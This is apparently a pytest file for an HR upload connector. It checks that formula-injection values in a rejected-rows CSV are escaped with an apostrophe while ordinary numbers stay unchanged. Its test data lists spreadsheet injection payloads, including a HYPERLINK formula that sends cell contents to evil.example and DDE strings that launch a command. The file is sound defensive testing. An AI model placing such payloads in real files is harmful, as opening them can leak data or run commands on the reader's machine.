"""Issue 10, case 12: the rejected-rows CSV cannot run formulas when an admin opens it."""

from __future__ import annotations

import csv

from hrconnector_core.pipeline import LocalFileSource, UploadOptions, run_upload
from hrconnector_core.report import RejectedRowsWriter, neutralise

from .csvdata import HEADER, write_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_neutralised_and_values_are_kept(tmp_path):
    data = [["bad-email", "2024-01-01T00:00:00Z", remark, "1"] for remark in HOSTILE]
    data += [["bad-email", "2024-01-01T00:00:00Z", value, "-"] for value in ("-12", "+3.5", "-", "plain")]
    path = write_csv(tmp_path / "hr.csv", HEADER, data)
    rejected = tmp_path / "rejected.csv"
    report = run_upload(
        LocalFileSource(path),
        UploadOptions(job_id="j", dry_run=True),
        client=None,
        store=None,
        rejected_rows=RejectedRowsWriter(rejected),
    )
    assert report.rows.rejected == len(data)
    with rejected.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    remarks = [r[4] for r in rows]
    assert remarks[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert remarks[len(HOSTILE) :] == ["-12", "+3.5", "-", "plain"]  # numbers and a lone sign stay as they are
    for row in rows:
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) and cell not in ("+3.5",) for cell in row)


def test_neutralise_rule():
    assert neutralise("=1+1") == "'=1+1" and neutralise("@x") == "'@x" and neutralise("-x") == "'-x"
    assert neutralise("-5") == "-5" and neutralise("+1,5") == "+1,5" and neutralise("-") == "-"
    assert neutralise("José") == "José" and neutralise("'=already") == "'=already"
